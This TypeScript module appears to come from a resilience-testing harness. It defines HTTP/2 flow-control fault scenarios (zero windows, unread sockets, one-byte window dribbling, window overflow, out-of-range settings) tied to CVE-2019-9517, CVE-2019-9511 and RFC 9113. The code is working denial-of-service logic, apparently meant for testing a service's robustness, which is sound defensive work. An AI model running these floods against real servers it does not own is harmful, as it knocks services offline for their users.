/** Clients that do not take what they have asked for, or lie about how much they can. */
import type { Attack, Fault } from '../fault.js';
import { H2Connection, onConnections } from '../wire/connection.js';
import { data, FLAG, headers, SETTING, settings, windowUpdate } from '../wire/frames.js';
import { callBlock } from '../wire/hpack.js';
import { BATCH_CHECK, batchOf, DEDUPE, EMPTY_MESSAGE, GET_LISTS } from './messages.js';

const LISTS = callBlock(GET_LISTS);
const BATCH = batchOf(1000);

function askForLists(connection: H2Connection): void {
  const stream = connection.open(LISTS);
  connection.send(data(stream, EMPTY_MESSAGE, FLAG.endStream));
}

/** Asks for answers of 1,000 verdicts that the window has no room for. */
function askForBatch(connection: H2Connection): void {
  const stream = connection.open(callBlock(BATCH_CHECK));
  connection.send(data(stream, BATCH, FLAG.endStream));
}

/** Opens 90 calls with windows of `bytes` each, then widens one after another by `bytes`. */
function dribble({ bytes, perSecond }: { bytes: number; perSecond: number }) {
  return async (attack: Attack): Promise<void> => {
    const connection = new H2Connection(attack, {
      settings: settings([SETTING.initialWindowSize, bytes]),
    });
    for (let call = 0; call < 90; call++) askForBatch(connection);
    let turn = 0;
    await attack.pace(perSecond, () => {
      connection.send(windowUpdate((turn++ % 90) * 2 + 1, bytes));
      return !connection.isClosed;
    });
  };
}

export const WINDOWS: readonly Fault[] = [
  {
    name: 'no-window',
    report: 'CVE-2019-9517',
    how: '200 batches of 1,000 numbers a second from 4 clients whose windows are 0',
    play: (attack) =>
      onConnections(
        attack,
        { connections: 4, perSecond: 200, settings: settings([SETTING.initialWindowSize, 0]) },
        askForBatch,
      ),
  },
  {
    name: 'no-window-for-headers',
    report: 'CVE-2019-9517',
    how: '1,000 calls of GetLists a second from 2 clients that never read their sockets',
    play: (attack) =>
      onConnections(attack, { connections: 2, perSecond: 1000, reads: false }, askForLists),
  },
  {
    name: 'data-dribble',
    report: 'CVE-2019-9511',
    how: '90 answers of 1,000 verdicts, taken one byte at a time, 2,000 a second',
    play: dribble({ bytes: 1, perSecond: 2000 }),
  },
  {
    name: 'never-reads-a-stream',
    report: 'CVE-2019-9517',
    how: '40 streams on 4 connections with 200 batches a second and nobody who reads an answer',
    play: (attack) => {
      const streams = new WeakMap<H2Connection, number[]>();
      const load = { connections: 4, perSecond: 200, reads: false };
      return onConnections(attack, load, (connection) => {
        const open = streams.get(connection) ?? [];
        streams.set(connection, open);
        if (open.length < 10) open.push(connection.open(callBlock(DEDUPE)));
        connection.send(data(attack.random.pick(open), BATCH));
      });
    },
  },
  {
    name: 'window-overflow-of-the-connection',
    report: 'CVE-2026-21714',
    how: '100 connections a second that widen the window of the connection beyond 2^31',
    play: (attack) =>
      attack.pace(100, () => {
        const connection = new H2Connection(attack);
        connection.send(windowUpdate(0, 2 ** 31 - 1), windowUpdate(0, 2 ** 31 - 1));
      }),
  },
  {
    name: 'window-shrinks',
    report: 'RFC 9113, section 6.9.2',
    how: '500 times a second INITIAL_WINDOW_SIZE goes to 0 or 1 MiB under open calls',
    play: (attack) =>
      onConnections(attack, { connections: 2, perSecond: 500 }, (connection) => {
        askForBatch(connection);
        const bytes = attack.random.chance(0.5) ? 0 : 2 ** 20;
        connection.send(settings([SETTING.initialWindowSize, bytes]));
      }),
  },
  {
    name: 'settings-out-of-range',
    report: 'RFC 9113, section 6.5.2',
    how: '100 connections a second with frames of 1 byte, windows of 2^32-1, tables of 0 or 4 GiB',
    play: (attack) =>
      attack.pace(100, () => {
        const connection = new H2Connection(attack, {
          settings: settings(
            attack.random.pick([
              [SETTING.frameSize, 1],
              [SETTING.initialWindowSize, 2 ** 32 - 1],
              [SETTING.headerTableSize, 0],
              [SETTING.headerTableSize, 2 ** 32 - 1],
              [SETTING.concurrentStreams, 0],
            ] as const),
          ),
        });
        askForLists(connection);
      }),
  },
  {
    name: 'more-data-than-the-window',
    report: 'RFC 9113, section 6.9.1',
    how: '4 connections a second that send 8 MiB on one stream at once, whatever the window',
    play: (attack) =>
      attack.pace(4, () => {
        const connection = new H2Connection(attack);
        const stream = connection.nextStream();
        connection.send(headers(stream, callBlock(DEDUPE)));
        const part = data(stream, Buffer.alloc(16_384));
        for (let sent = 0; sent < 512; sent++) connection.send(part);
      }),
  },
];
